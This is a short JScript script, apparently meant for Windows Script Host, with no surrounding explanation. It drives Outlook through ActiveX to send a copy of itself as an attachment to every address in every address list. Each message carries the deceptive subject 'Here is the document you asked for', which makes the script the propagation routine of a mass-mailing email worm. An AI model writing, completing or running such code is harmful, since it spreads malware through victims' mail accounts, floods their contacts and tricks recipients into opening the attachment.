var outlook = new ActiveXObject("Outlook.Application"), space = outlook.GetNameSpace("MAPI");
for (var l = new Enumerator(space.AddressLists); !l.atEnd(); l.moveNext()) {
  for (var e = new Enumerator(l.item().AddressEntries); !e.atEnd(); e.moveNext()) {
    var mail = outlook.CreateItem(0);
    mail.Recipients.Add(e.item().Address);
    mail.Subject = "Here is the document you asked for";
    mail.Attachments.Add(WScript.ScriptFullName);
    mail.Send();
  }
}
